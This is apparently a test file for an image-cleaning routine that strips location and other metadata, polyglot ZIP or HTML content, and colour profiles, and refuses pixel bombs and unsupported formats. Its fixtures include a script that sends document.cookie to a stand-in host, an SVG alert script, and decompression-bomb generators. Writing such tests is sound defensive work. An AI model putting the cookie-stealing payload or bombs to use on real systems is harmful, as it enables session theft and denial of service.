import sharp from 'sharp';
import { checkImageLibrary, cleanImage, ImageError, sniffImage, type CleanImageOptions } from '../../shared/images/clean-image';
import { jpegSegments, pngChunks, structureProblems } from '../helpers/image-structure';
import { jpegSegment, makePng } from '../helpers/images';
import { corners, exifSegment, heicFile, jpegBomb, jpegOf, phonePhoto, PLACE, pngBomb, quadrantsRaw, QUADRANTS, SECRET, storedFor, xmpSegment, zipWith } from '../helpers/photos';

/**
 * Photo cleaning with real files made here: each output is checked by walking its bytes (only the JPEG
 * segments or PNG chunks a picture needs, nothing after its end), for the secrets it must not carry, and for
 * being upright (the four corners' colours of a known picture).
 */

const PHOTO: CleanImageOptions = { kind: 'photo', maxBytes: 20 * 1024 * 1024, maxPixels: 50_000_000 };
const raw = quadrantsRaw(96, 64);
const near = (a: readonly number[], b: readonly number[]) => a.every((v, i) => Math.abs(v - b[i]!) <= 30);

async function expectUpright(image: Buffer): Promise<void> {
  const c = await corners(image);
  expect([c.width, c.height]).toEqual([96, 64]);
  for (const corner of ['topLeft', 'topRight', 'bottomLeft', 'bottomRight'] as const) {
    if (!near(c[corner], QUADRANTS[corner])) throw new Error(`${corner} is ${c[corner].join(',')}, expected about ${QUADRANTS[corner].join(',')}`);
  }
}

function expectClean(body: Buffer): void {
  expect(structureProblems(body)).toEqual([]);
  for (const secret of [SECRET.slice(0, 12), PLACE.slice(0, 12), 'Pixel 8', 'SN-4C1234', 'Exif', 'http://ns.adobe.com', 'Photoshop', 'ICC_PROFILE', 'PK\x03\x04', '<html']) {
    expect(body.includes(Buffer.from(secret, 'latin1'))).toBe(false);
  }
}

const refusal = async (bytes: Buffer, options: CleanImageOptions = PHOTO) => {
  try {
    await cleanImage(bytes, options);
  } catch (error) {
    if (error instanceof ImageError) return { reason: error.reason, message: error.message };
    throw error;
  }
  throw new Error('accepted');
};

describe('cleaning photos', () => {
  test('when a phone photo carries GPS, a maker note, a thumbnail of another picture, XMP with a place and IPTC, then only the picture comes out, as a bare JPEG', async () => {
    const input = await phonePhoto(raw, 1);
    expect(input.includes(Buffer.from(SECRET))).toBe(true);
    expect(input.includes(Buffer.from(PLACE))).toBe(true);
    const meta = await sharp(input).metadata();
    expect([meta.exif !== undefined, meta.xmp !== undefined, meta.iptc !== undefined]).toEqual([true, true, true]);
    const cleaned = await cleanImage(input, PHOTO);
    expect([cleaned.contentType, cleaned.width, cleaned.height, cleaned.from]).toEqual(['image/jpeg', 96, 64, 'jpeg']);
    expectClean(cleaned.body);
    // One picture: one frame header, one SOI; the green thumbnail is nowhere.
    const names = jpegSegments(cleaned.body).segments.map((s) => s.name);
    expect(names.filter((n) => n === 'SOI' || n.startsWith('SOF'))).toEqual(['SOI', 'SOF0']);
    const after = await sharp(cleaned.body).metadata();
    expect([after.exif, after.xmp, after.iptc, after.icc, after.orientation]).toEqual([undefined, undefined, undefined, undefined, undefined]);
    await expectUpright(cleaned.body);
  });

  test.each([1, 2, 3, 4, 5, 6, 7, 8])('when a photo has EXIF orientation %i, then it comes out upright, the same as the picture stored upright', async (orientation) => {
    const input = await phonePhoto(raw, orientation);
    const cleaned = await cleanImage(input, PHOTO);
    expectClean(cleaned.body);
    await expectUpright(cleaned.body);
    // The same as the upright original, cleaned: corner by corner.
    const upright = await cleanImage(await jpegOf(raw), PHOTO);
    const [a, b] = [await corners(cleaned.body), await corners(upright.body)];
    expect(near(a.topLeft, b.topLeft) && near(a.topRight, b.topRight) && near(a.bottomLeft, b.bottomLeft) && near(a.bottomRight, b.bottomRight)).toBe(true);
  });

  test('when a JPEG has a ZIP appended (a JPEG/ZIP polyglot), then nothing of the ZIP comes out', async () => {
    const input = Buffer.concat([await jpegOf(raw, [exifSegment({ gps: true })]), zipWith('location.txt', `${SECRET} ${PLACE}`)]);
    expect(input.includes(Buffer.from('PK\x05\x06', 'latin1'))).toBe(true);
    const cleaned = await cleanImage(input, PHOTO);
    expectClean(cleaned.body);
    expect(jpegSegments(cleaned.body).trailing).toBe(0);
  });

  test('when a JPEG is also a page (HTML in a comment and after the end), then the output is only the picture', async () => {
    const page = `<html><body><script>fetch('//evil.example/?'+document.cookie)</script>${SECRET}</body></html>`;
    const input = Buffer.concat([await jpegOf(raw, [jpegSegment(0xfffe, page), xmpSegment()]), Buffer.from(page)]);
    const cleaned = await cleanImage(input, PHOTO);
    expectClean(cleaned.body);
    expect(cleaned.body.includes('<script')).toBe(false);
  });

  test('when a PNG has a ZIP appended and text chunks, then a bare PNG comes out for a graphic, a JPEG for a photo', async () => {
    const png = makePng(40, 20, { text: SECRET });
    const input = Buffer.concat([png, zipWith('a.txt', SECRET)]);
    const graphic = await cleanImage(input, { ...PHOTO, kind: 'graphic' });
    expect([graphic.contentType, graphic.width, graphic.height]).toEqual(['image/png', 40, 20]);
    expect(pngChunks(graphic.body).chunks.map((c) => c.type)).toEqual(['IHDR', 'IDAT', 'IEND']);
    expectClean(graphic.body);
    const photo = await cleanImage(input, PHOTO);
    expect(photo.contentType).toBe('image/jpeg');
    expectClean(photo.body);
  });

  test('when a graphic is a palette PNG, then it stays one, pixel for pixel, about its own size', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="150"><rect width="400" height="150" fill="#a3001a"/><circle cx="330" cy="60" r="50" fill="#fc0"/><path d="M20 130 L120 20 L220 130 Z" fill="#fff" fill-opacity="0.6"/></svg>');
    const input = Buffer.concat([await sharp(svg).png({ palette: true }).toBuffer(), zipWith('a.txt', SECRET)]);
    const cleaned = await cleanImage(input, { ...PHOTO, kind: 'graphic' });
    expectClean(cleaned.body);
    expect(pngChunks(cleaned.body).chunks.map((c) => c.type)).toContain('PLTE');
    expect(await sharp(cleaned.body).ensureAlpha().raw().toBuffer()).toEqual(await sharp(input).ensureAlpha().raw().toBuffer());
    expect(cleaned.body.length).toBeLessThan(input.length * 1.2);
  });

  test('when a picture has transparency, then it stays a PNG with its alpha', async () => {
    const input = await sharp({ create: { width: 20, height: 10, channels: 4, background: { r: 10, g: 20, b: 30, alpha: 0.5 } } }).webp({ lossless: true }).toBuffer();
    const cleaned = await cleanImage(input, PHOTO);
    expect([cleaned.contentType, cleaned.from]).toEqual(['image/png', 'webp']);
    expectClean(cleaned.body);
    expect((await sharp(cleaned.body).metadata()).hasAlpha).toBe(true);
  });

  test('when a WebP carries EXIF and XMP, then a bare JPEG comes out', async () => {
    const input = await sharp(raw.data, { raw: { width: 96, height: 64, channels: 3 } }).webp().withExif({ IFD0: { Make: 'Google', Model: 'Pixel 8', Copyright: SECRET } }).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:City="${PLACE}"/></rdf:RDF></x:xmpmeta>`).toBuffer();
    expect(input.includes(Buffer.from(PLACE))).toBe(true);
    const cleaned = await cleanImage(input, PHOTO);
    expect(cleaned.contentType).toBe('image/jpeg');
    expectClean(cleaned.body);
    await expectUpright(cleaned.body);
  });

  test('when a photo is tagged with a wide-gamut profile (Display P3), then its colours are converted to sRGB and the profile goes', async () => {
    const flat = { data: Buffer.alloc(32 * 32 * 3), width: 32, height: 32 };
    for (let i = 0; i < flat.data.length; i += 3) flat.data.set([200, 60, 40], i);
    // sharp turns the sRGB colour into Display P3 values and tags them: the stored numbers are not the colour's.
    const input = await jpegOf(flat, [], { icc: 'p3' });
    expect((await sharp(input).metadata()).icc).toBeDefined();
    const stored = await sharp(input, { ignoreIcc: true }).raw().toBuffer();
    expect(stored[0]).toBeLessThan(192);
    const cleaned = await cleanImage(input, PHOTO);
    expectClean(cleaned.body);
    // Cleaned, without a profile, the numbers are the sRGB colour again: the profile was applied, not dropped.
    const [r, g, b] = (await corners(cleaned.body)).topLeft as [number, number, number];
    expect([Math.abs(r - 200), Math.abs(g - 60), Math.abs(b - 40)].every((d) => d <= 6)).toBe(true);
  });

  test('when a JPEG is CMYK (as print designers export logos), then an sRGB JPEG of the colours it shows comes out, without Adobe\'s segment', async () => {
    const input = await sharp(raw.data, { raw: { width: 96, height: 64, channels: 3 } }).toColourspace('cmyk').jpeg().toBuffer();
    expect((await sharp(input).metadata()).space).toBe('cmyk');
    expect(jpegSegments(input).segments.some((s) => s.name === 'APP14')).toBe(true);
    const cleaned = await cleanImage(input, PHOTO);
    expectClean(cleaned.body);
    expect((await sharp(cleaned.body).metadata()).space).toBe('srgb');
    // The colours a viewer shows for the CMYK file (the green is out of the CMYK gamut, so not QUADRANTS' own).
    const [shown, out] = [await corners(await sharp(input).png().toBuffer()), await corners(cleaned.body)];
    for (const corner of ['topLeft', 'topRight', 'bottomLeft', 'bottomRight'] as const) expect(out[corner].every((v, i) => Math.abs(v - shown[corner][i]!) <= 8)).toBe(true);
  });
});

describe('refusing', () => {
  test.each([
    ['a 20 000 × 20 000 PNG (400 million pixels in a small file)', () => pngBomb(20_000, 20_000)],
    ['a 20 000 × 20 000 JPEG (its frame header edited)', () => jpegBomb(20_000, 20_000)],
  ])('when the file is %s, then too_many_pixels, quickly, without decoding it', async (_what, make) => {
    const input = await make();
    expect(input.length).toBeLessThan(10_000);
    const rss = process.memoryUsage().rss;
    const started = performance.now();
    const refused = await refusal(input);
    expect(performance.now() - started).toBeLessThan(500);
    expect(refused).toEqual({ reason: 'too_many_pixels', message: 'The image is 20000 × 20000 pixels: at most 50.0 million pixels.' });
    // 400 million pixels would be 1.2 GB: nothing like it was allocated.
    expect(process.memoryUsage().rss - rss).toBeLessThan(64 * 1024 * 1024);
  });

  test('when a picture is over the side cap, then too_many_pixels with its size', async () => {
    expect(await refusal(makePng(3000, 1), { ...PHOTO, maxSide: 2048 })).toEqual({ reason: 'too_many_pixels', message: 'The image is 3000 × 1 pixels: at most 2048 on each side.' });
  });

  test('when the pixel cap is passed only after turning (orientation 6), then the upright size is named', async () => {
    const tall = await jpegOf(await storedFor(6, quadrantsRaw(40, 20)), [exifSegment({ orientation: 6 })]);
    expect(await refusal(tall, { ...PHOTO, maxSide: 30 })).toEqual({ reason: 'too_many_pixels', message: 'The image is 40 × 20 pixels: at most 30 on each side.' });
  });

  test('when the file is over the byte cap, then too_big before it is read', async () => {
    expect(await refusal(Buffer.alloc(2048, 0xff), { ...PHOTO, maxBytes: 1024 })).toEqual({ reason: 'too_big', message: 'The file is too large: at most 1 KB.' });
  });

  test('when an iPhone HEIC is sent, then it is refused with its own reason (sharp\'s prebuilt build cannot decode HEVC)', async () => {
    const heic = await heicFile();
    expect(sniffImage(heic)).toEqual({ kind: 'heic' });
    const refused = await refusal(heic);
    expect(refused.reason).toBe('heic');
    expect(refused.message).toMatch(/HEIC\/HEIF .* cannot be read here\. Please send it as JPEG/);
    // The fact the refusal rests on: libvips reads the container, but has no HEVC decoder. If an upgrade
    // brings one, this fails, and HEIC can be accepted instead.
    expect(await sharp(heic).metadata()).toMatchObject({ format: 'heif', compression: 'hevc' });
    await expect(sharp(heic).png().toBuffer()).rejects.toThrow(/Support for this compression format has not been built in: HEVC/);
  });

  test.each([
    ['an empty file', Buffer.alloc(0), 'empty'],
    ['text', Buffer.from('hello, this is not an image'), 'not_an_image'],
    ['a ZIP', zipWith('a.txt', 'x'), 'not_an_image'],
    ['an MP4', Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom\0\0\x02\0isomiso2', 'latin1')]), 'not_an_image'],
    ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00', 'latin1'), 'unsupported_type'],
    ['an SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'unsupported_type'],
    ['a TIFF', Buffer.from('II*\0\x08\0\0\0', 'latin1'), 'unsupported_type'],
  ])('when the file is %s, then %s', async (_what, bytes, reason) => {
    expect((await refusal(bytes)).reason).toBe(reason);
  });

  test('when an AVIF is sent, then unsupported_type, named', async () => {
    const avif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).avif().toBuffer();
    expect(await refusal(avif)).toEqual({ reason: 'unsupported_type', message: 'AVIF images are not accepted: please send a JPEG, PNG or WebP.' });
  });

  test.each([
    ['a JPEG cut in its scan', async () => {
      const whole = await jpegOf(raw);
      return whole.subarray(0, Math.floor(whole.length * 0.6));
    }],
    ['a JPEG with only markers', async () => Buffer.from([0xff, 0xd8, 0xff, 0xff, 0xff, 0xd9])],
    ['a JPEG whose segment length runs past the end', async () => Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff, 0x45, 0x78])],
    ['a PNG cut short', async () => makePng(40, 40).subarray(0, 60)],
    ['a PNG whose pixel data is garbage', async () => {
      const png = makePng(16, 16);
      png.fill(0x55, 41, png.length - 16);
      return png;
    }],
    ['a WebP header with nothing behind it', async () => Buffer.from('RIFF\x10\0\0\0WEBPVP8 \x04\0\0\0\0\0\0\0', 'latin1')],
    ['a PNG signature in front of a JPEG', async () => Buffer.concat([makePng(1, 1).subarray(0, 8), await jpegOf(raw)])],
  ])('when the file is %s, then damaged, not a crash', async (_what, make) => {
    const refused = await refusal(await make());
    expect(refused.reason).toBe('damaged');
    expect(refused.message).toMatch(/^The (JPEG|PNG|WEBP) image is damaged or cut short and cannot be read\.$/);
  });
});

describe('the start-up check', () => {
  test('when sharp\'s prebuilt libvips is installed (npm ci), then the server\'s image check passes', async () => {
    await expect(checkImageLibrary()).resolves.toBeUndefined();
  });
});
